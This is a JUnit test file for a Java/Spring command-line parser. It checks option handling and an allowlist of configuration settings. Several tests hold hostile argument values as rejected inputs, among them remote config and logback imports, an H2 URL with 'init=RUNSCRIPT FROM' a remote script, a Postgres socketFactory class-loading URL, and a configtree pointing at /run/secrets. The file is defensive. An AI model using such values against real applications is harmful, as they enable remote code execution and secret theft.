package uk.placewise.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

/** What a command line may hold: each command's own options, configuration, and nothing else. */
class CommandLineTests {

	static CommandLine parse(String... args) {
		return CommandLine.parse(args, Main.COMMANDS);
	}

	@Test
	void demoRefusesOutWhichItNeverUsed() {
		assertThatThrownBy(() -> parse("demo", "--out", "elsewhere")).isInstanceOf(UsageException.class)
			.hasMessage("unknown option --out for 'demo'");
	}

	@Test
	void aNameValueThatIsNoSettingIsRefusedNamingIt() {
		assertThatThrownBy(() -> parse("nightly", "--inbox", "in", "--out", "out", "--colour=red"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("unknown option --colour for 'nightly'")
			.hasMessageContaining("placewise., spring., logging.");
	}

	@Test
	void aWebSettingIsNoSettingOfABatchEngine() {
		assertThatThrownBy(() -> parse("status", "--management.endpoints.web.exposure.include=*"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("unknown option --management.endpoints.web.exposure.include for 'status'");
	}

	@Test
	void placewiseSpringAndLoggingSettingsArePassedOnAsConfiguration() {
		CommandLine line = parse("nightly", "--inbox=in", "--placewise.retention.years=6",
				"--spring.profiles.active=postgres", "--logging.level.root=WARN");
		assertThat(line.springArgs()).containsExactly("--placewise.retention.years=6", "--spring.profiles.active=postgres",
				"--logging.level.root=WARN");
		assertThat(line.options()).containsEntry("inbox", "in");
	}

	@Test
	void aSettingWithoutItsValueSaysHowToGiveIt() {
		assertThatThrownBy(() -> parse("status", "--placewise.data-dir", "data")).isInstanceOf(UsageException.class)
			.hasMessage("--placewise.data-dir is a setting: give it as --placewise.data-dir=VALUE");
	}

	@Test
	void anArgumentACommandTakesNoneOfIsRefused() {
		assertThatThrownBy(() -> parse("nightly", "--inbox", "in", "--out", "out", "2026-11-20"))
			.isInstanceOf(UsageException.class)
			.hasMessage("'nightly' takes no arguments, only its options (not '2026-11-20')");
	}

	@Test
	void explainStillTakesItsUrn() {
		assertThat(parse("explain", "SC900002").positional()).containsExactly("SC900002");
	}

	@Test
	void statusTakesOut() {
		assertThat(parse("status", "--out", "out").options()).containsEntry("out", "out");
	}

	@Test
	void anOptionGivenTwiceIsAUsageErrorNamingIt() {
		assertThatThrownBy(() -> parse("nightly", "--as-of", "2026-11-19", "--as-of", "2026-11-20"))
			.isInstanceOf(UsageException.class)
			.hasMessage("--as-of is given twice: give it once");
	}

	@Test
	void anOptionGivenTwiceWithTheSameValueIsStillAUsageError() {
		assertThatThrownBy(() -> parse("nightly", "--out", "A", "--out=A")).isInstanceOf(UsageException.class)
			.hasMessage("--out is given twice: give it once");
	}

	@Test
	void aSettingGivenTwiceIsAUsageErrorNotTwoValuesJoinedByAComma() {
		assertThatThrownBy(() -> parse("status", "--placewise.data-dir=A", "--placewise.data-dir=B"))
			.isInstanceOf(UsageException.class)
			.hasMessage("--placewise.data-dir is given twice: give it once");
	}

	@Test
	void aSettingGivenTwiceInAnotherSpellingIsAUsageError() {
		assertThatThrownBy(() -> parse("status", "--placewise.data-dir=A", "--placewise.dataDir=B"))
			.isInstanceOf(UsageException.class)
			.hasMessage("--placewise.dataDir is given twice: give it once");
	}

	@Test
	void configImportIsNotOnTheAllowlist() {
		assertThatThrownBy(() -> parse("status", "--spring.config.import=http://example.invalid/x.yml"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.config.import cannot be set on the command line");
	}

	@Test
	void configImportInAnotherSpellingIsNotOnTheAllowlistEither() {
		assertThatThrownBy(() -> parse("status", "--spring.Config.IMPORT=file:/tmp/x.yml"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.Config.IMPORT cannot be set on the command line");
	}

	@Test
	void mainSourcesIsNotOnTheAllowlist() {
		assertThatThrownBy(() -> parse("nightly", "--spring.main.sources=com.example.Evil"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.main.sources cannot be set on the command line");
	}

	@Test
	void loggingConfigIsNotOnTheAllowlist() {
		assertThatThrownBy(() -> parse("nightly", "--logging.config=http://example.invalid/logback.xml"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--logging.config cannot be set on the command line");
	}

	@Test
	void anAdditionalConfigLocationFromAUrlIsRefused() {
		assertThatThrownBy(() -> parse("status", "--spring.config.additional-location=http://example.invalid/"))
			.isInstanceOf(UsageException.class)
			.hasMessage("--spring.config.additional-location takes files on this machine only (PATH, file:PATH or "
					+ "optional:file:PATH), not 'http://example.invalid/'");
	}

	@Test
	void aConfigLocationOnTheClasspathOrAConfigTreeIsRefused() {
		assertThatThrownBy(() -> parse("status", "--spring.config.location=/etc/placewise/,classpath:/evil.yml"))
			.isInstanceOf(UsageException.class)
			.hasMessageEndingWith("not 'classpath:/evil.yml'");
		assertThatThrownBy(() -> parse("status", "--spring.config.location=optional:configtree:/run/secrets/"))
			.isInstanceOf(UsageException.class)
			.hasMessageEndingWith("not 'optional:configtree:/run/secrets/'");
	}

	@Test
	void aConfigLocationThatIsAFileOnThisMachineIsPassedOn() {
		CommandLine line = parse("status", "--spring.config.additional-location=optional:file:/etc/placewise/,/srv/p.yml");
		assertThat(line.springArgs()).containsExactly("--spring.config.additional-location=optional:file:/etc/placewise/,/srv/p.yml");
	}

	@Test
	void theStoreConnectionAndLogLevelsArePassedOn() {
		CommandLine line = parse("status", "--spring.datasource.url=jdbc:postgresql://db/placewise",
				"--spring.datasource.username=u", "--spring.datasource.password=p", "--logging.level.uk.placewise=DEBUG",
				"--logging.file.name=/var/log/placewise/placewise.log");
		assertThat(line.springArgs()).hasSize(5);
	}

	@Test
	void anH2UrlThatRunsAScriptAsItOpensIsRefused() {
		assertThatThrownBy(() -> parse("status",
				"--spring.datasource.url=jdbc:h2:file:/srv/p/data/placewise;init=RUNSCRIPT FROM 'http://example.invalid/x.sql'"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
	}

	@Test
	void aPostgresUrlWithAnOptionThatLoadsAClassIsRefused() {
		assertThatThrownBy(() -> parse("status",
				"--spring.datasource.url=jdbc:postgresql://db/placewise?socketFactory=org.example.Evil&socketFactoryArg=x"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
	}

	@Test
	void aStoreUrlOfAnotherKindIsRefused() {
		assertThatThrownBy(() -> parse("status", "--spring.datasource.url=jdbc:h2:tcp://example.invalid/x"))
			.isInstanceOf(UsageException.class)
			.hasMessageStartingWith("--spring.datasource.url takes an H2 file");
	}

	@Test
	void theStoreUrlsPlacewiseItselfUsesArePassedOn() {
		CommandLine line = parse("status",
				"--spring.datasource.url=jdbc:h2:file:/srv/place wise/data/placewise;DB_CLOSE_ON_EXIT=FALSE;WRITE_DELAY=0");
		assertThat(line.springArgs()).hasSize(1);
		assertThat(parse("status", "--spring.datasource.url=jdbc:postgresql://127.0.0.1:54329/placewise?currentSchema=it_a&sslmode=require")
			.springArgs()).hasSize(1);
	}
}
